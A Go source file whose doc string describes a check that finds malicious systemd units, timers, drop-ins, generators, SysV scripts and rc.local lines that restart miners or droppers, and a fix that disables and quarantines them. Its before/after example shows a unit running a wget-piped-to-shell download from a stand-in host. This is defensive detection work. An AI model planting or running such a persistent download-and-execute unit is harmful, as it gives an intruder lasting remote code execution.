// Package units finds what a compromise made systemd, SysV init and
// rc.local start.
package units

const doc = `systemd units, timers, drop-ins, generators, SysV init scripts and rc.local lines that start miners or droppers

The second way miners come back is the init system: a unit that runs
/tmp/kinsing and is enabled in multi-user.target.wants, a timer that starts
the miner every few minutes, a drop-in that hangs an ExecStartPost= on
cron.service, a generator that writes units at every boot, a SysV script in
/etc/init.d with its rc?.d links, or a line in rc.local. The check reads,
without running anything:

  - unit files in /etc/systemd/system, /run/systemd/system,
    /usr/local/lib/systemd/system and /usr/lib/systemd/system, the user
    units in /etc/systemd/user and /usr/lib/systemd/user, and every user's
    ~/.config/systemd/user and ~/.local/share/systemd/user: their Exec*=
    command lines (as shell: sh -c text is followed), Environment= and
    EnvironmentFile= (a library LD_PRELOAD forces in that no package
    installed);
  - their enablement links (*.wants/, *.requires/, *.upholds/), aliases,
    and drop-ins (UNIT.d/*.conf);
  - debug-shell.service enabled (a root shell without password on tty9);
  - the generators in /etc, /usr/local/lib and /usr/lib/systemd/*-generators;
  - SysV init scripts (/etc/init.d, /etc/rc.d/init.d) and rc.local.

A file a package installed and nobody changed is not looked into. A unit,
script or line is reported only when it is marked (see docs/checks and the
intrusions family: a download or base64 fed to a shell, a program in a
world-writable or hidden place, a miner, a program no package installed
where packages put theirs, a replaced package program).

The fix disables a marked unit by removing the links that enable it and
quarantines its file (moved into the repair journal; undo puts it back),
together with a timer, path or socket unit no package installed that starts
it; a drop-in or a generator no package installed is quarantined; a changed
unit of a package is restored from the package; a SysV script loses its
rc?.d links and is quarantined; an rc.local line is commented out. What the
entry runs and no package installed is quarantined too.

Before:

  /etc/systemd/system/multi-user.target.wants/bot.service -> /lib/systemd/system/bot.service
  /lib/systemd/system/bot.service:
    [Service]
    ExecStart=/bin/bash -c 'wget -q -O - http://192.0.2.7/d.sh | sh'
    Restart=always

After:

  (the link is removed; bot.service is in the repair journal)
`
